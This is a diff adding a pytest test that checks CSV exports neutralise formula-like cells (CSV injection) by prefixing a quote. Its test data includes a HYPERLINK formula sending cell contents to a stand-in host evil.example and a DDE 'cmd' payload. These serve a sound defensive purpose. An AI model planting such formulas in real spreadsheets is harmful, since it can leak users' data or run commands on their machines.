@@ -272,6 +272,23 @@ def test_csv_has_a_row_for_every_paper(toy_project: Path, toy_site: Path) -> Non
         assert row["year"] == str(record.year)
 
 
+@pytest.mark.parametrize(("text", "cell"), [
+    ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("'quoted' title", "''quoted' title"), ("A = B", "A = B"), ("", ""),
+    ("line\rbreak", "line\rbreak"), ("two\nlines", "two\nlines"),
+])
+def test_csv_cells_that_start_like_formulas_get_a_quote(text: str, cell: str) -> None:
+    """Issue 12, class 5 (OWASP CSV injection); the JSON keeps the text exactly."""
+    assert exports.csv_cell(text) == cell
+    record = {column: "" for column in exports.CSV_COLUMNS} | {
+        "title": text, "authors": [text, "B"], "links": {"code": text}, "year": None}
+    row = next(csv.DictReader(io.StringIO(exports.csv_export([record]), newline="")))
+    assert row["title"] == row["authors"].removesuffix("; B") == row["link_code"] == cell
+    assert json.loads(json.dumps(record))["title"] == text
+
+
 def test_exports_are_byte_identical_between_builds(toy_project: Path, tmp_path: Path) -> None:
     generate(toy_project, docs=tmp_path / "one")
     generate(toy_project, docs=tmp_path / "two")
